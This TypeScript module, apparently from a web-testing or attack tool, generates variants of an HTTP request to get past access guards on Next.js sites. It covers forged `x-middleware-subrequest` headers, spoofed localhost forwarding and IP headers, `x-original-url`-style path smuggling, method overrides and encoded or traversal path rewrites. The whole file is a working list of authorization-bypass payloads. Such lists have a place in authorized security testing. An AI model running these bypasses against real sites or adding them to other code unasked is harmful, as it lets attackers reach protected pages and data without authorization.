import type { Question } from "./ask";

/** What is sent along to look like somebody or something else. */
const HEADERS: readonly Readonly<Record<string, string>>[] = [
  { "x-middleware-subrequest": "middleware" },
  { "x-middleware-subrequest": "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware" },
  { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" },
  { "x-middleware-subrequest": "pages/_middleware" },
  { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
  { "x-nextjs-data": "1" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "2" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_full" },
  { "next-resume": "1" },
  { "x-http-method-override": "GET" },
  { "x-http-method-override": "POST" },
  { "x-forwarded-host": "localhost", "x-forwarded-proto": "https" },
  { "x-real-ip": "127.0.0.1", forwarded: "for=127.0.0.1" },
  { authorization: "Bearer null" },
  { "x-market": "KG" },
];

/** The same address written differently. */
const PATHS: readonly ((path: string) => string)[] = [
  (path) => withPath(path, (name) => `${name}.rsc`),
  (path) => withPath(path, (name) => `${name}.segments/_tree.segment.rsc`),
  (path) => withPath(path, (name) => `${name}.json`),
  (path) => withPath(path, (name) => `${name}/`),
  (path) => `/${path}`,
  (path) => withPath(path, (name) => name.toUpperCase()),
  (path) => withPath(path, (name) => name.replace(/\/([^/]*)$/, "/%2e/$1")),
  (path) => withPath(path, (name) => name.replace(/\/([^/]*)$/, "/x/../$1")),
  (path) => withPath(path, (name) => name.replace(/\/([^/]*)$/, "/x%2f..%2f$1")),
  (path) => withPath(path, (name) => name.replace(/\/([^/]*)$/, "\\$1")),
  (path) => withPath(path, (name) => name.replace(/\/a/, "/%61")),
  (path) => withPath(path, (name) => name.replace(/\/a/, "/%2561")),
  (path) => withPath(path, (name) => `${name};x=1`),
  (path) => withPath(path, (name) => `/_next/data/build${name}.json`),
  (path) => withPath(path, (name) => `/index${name}`),
  (path) => withQuery(path, "_rsc=1a2b3"),
  (path) => withQuery(path, "nxtPlocale=en-us&nxtPid=1&nxtPtoken=1"),
  (path) => withQuery(path, "__nextLocale=en-us&__nextDefaultLocale=en-us"),
];

/** Ways around a guard that looks at addresses or headers: each asks for what `question` asks for. */
export function bypassesOf(question: Question): readonly Question[] {
  const { method, path, headers = {} } = question;
  const plain = { ...question, headers: { ...headers } };
  const byHeader = HEADERS.map((added) => ({ ...plain, headers: { ...headers, ...added } }));
  const elsewhere = ["x-original-url", "x-rewrite-url", "x-matched-path", "x-invoke-path", "x-middleware-rewrite"].map(
    (name) => ({ ...plain, path: "/en-us/help", headers: { ...headers, [name]: path } }),
  );
  const byPath = PATHS.flatMap((change) => {
    const changed = { ...plain, path: change(path) };
    return method === "GET" ? [changed, { ...changed, headers: { ...headers, rsc: "1" } }] : [changed];
  });
  const byMethod = method === "GET" ? ["HEAD", "POST", "OPTIONS"] : ["GET", "HEAD", "PUT", "OPTIONS"];
  return [...byHeader, ...elsewhere, ...byPath, ...byMethod.map((other) => ({ ...plain, method: other }))];
}

function withPath(path: string, change: (name: string) => string): string {
  const [name = "", query] = path.split("?");
  return query === undefined ? change(name) : `${change(name)}?${query}`;
}

function withQuery(path: string, query: string): string {
  return `${path}${path.includes("?") ? "&" : "?"}${query}`;
}
